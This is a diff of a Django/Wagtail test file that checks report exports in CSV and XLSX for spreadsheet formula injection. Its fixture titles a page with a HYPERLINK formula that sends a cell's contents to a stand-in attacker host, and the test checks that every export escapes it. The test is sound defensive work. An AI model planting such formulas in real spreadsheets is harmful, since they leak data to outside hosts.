@@ -1,19 +1,30 @@
 import csv
 import datetime
+import io
 from decimal import Decimal
 
+import openpyxl
 import pytest
 from django.core.cache import cache
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
 from django.urls import reverse
+from django.utils import timezone
+from wagtail.admin.urls import reports as wagtail_reports
+from wagtail.models import Page
 
 from dashboards.models import DashboardPage
 from schemes.bulk import individuals
 from schemes.bulk.files import open_table
 from schemes.bulk.models import Upload
 from schemes.plans.models import BenefitPlan
-from sites.spreadsheets import SafeSpreadsheetExportMixin, csv_response, safe_cell, streaming_csv_response
+from sites.spreadsheets import (
+    FORMULA_PREFIXES,
+    SafeSpreadsheetExportMixin,
+    csv_response,
+    safe_cell,
+    streaming_csv_response,
+)
 from tests.factories import IndividualFactory
 from tests.schemes.payments import conftest as payments
 
@@ -262,15 +273,40 @@ def test_the_payment_provider_export_has_no_bom(approved_payroll, accountant):
     assert response.status_code == 200 and raw.startswith(b"Payroll Name,")
 
 
+FORMULA_TITLE = '=HYPERLINK("http://evil.invalid/?"&A1,"Click")'
+
+
+@pytest.fixture
+def formula_page(superuser):
+    """A published page titled with a formula, in moderation and locked: listed by every Wagtail report
+    that lists pages."""
+    page = Page.objects.get(depth=1).add_child(instance=Page(title=FORMULA_TITLE, slug="formula"))
+    page.save_revision(user=superuser).publish(user=superuser)
+    page.get_workflow().start(page, superuser)
+    Page.objects.filter(pk=page.pk).update(locked=True, locked_by=superuser, locked_at=timezone.now())
+    return page
+
+
+def exported_cells(response, export_format):
+    """The text cells of a CSV (which must start with the BOM) or XLSX export."""
+    if export_format == "csv":
+        raw = body(response)
+        assert_bom_once(raw)
+        return [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for cell in row]
+    assert response.status_code == 200, response.status_code
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True).active
+    return [cell for row in sheet.iter_rows(values_only=True) for cell in row if isinstance(cell, str)]
+
+
 @pytest.mark.django_db
-@pytest.mark.parametrize("url_name", ["locked_pages", "aging_pages", "page_types_usage", "workflow", "workflow_tasks"])
-def test_wagtails_own_reports_export_formula_safe_with_the_bom(url_name, superuser):
-    from wagtail.models import Page
+@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
+@pytest.mark.parametrize("url_name", [pattern.name for pattern in wagtail_reports.urlpatterns])
+def test_wagtails_own_reports_export_formula_safe_with_the_bom(url_name, export_format, formula_page, superuser):
+    """Every URL Wagtail declares for its reports: the index and the results its filters reload both
+    serve ?export= (the results URLs once went to Wagtail's writer: formulas as typed, no BOM)."""
+    response = client_for(superuser).get(reverse(f"wagtailadmin_reports:{url_name}"), {"export": export_format})
+    cells = exported_cells(response, export_format)
 
-    page = Page.objects.get(depth=1).add_child(instance=Page(title="=HYPERLINK(\"http://x\")", slug="formula"))
-    Page.objects.filter(pk=page.pk).update(locked=True, locked_by=superuser)
-
-    raw = body(client_for(superuser).get(reverse(f"wagtailadmin_reports:{url_name}"), {"export": "csv"}))
-
-    assert_bom_once(raw)
-    assert "=HYPERLINK" not in raw.decode("utf-8-sig").replace("'=HYPERLINK", "")
+    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
+    if not url_name.startswith("page_types_usage"):  # lists page types, not pages
+        assert "'" + FORMULA_TITLE in cells
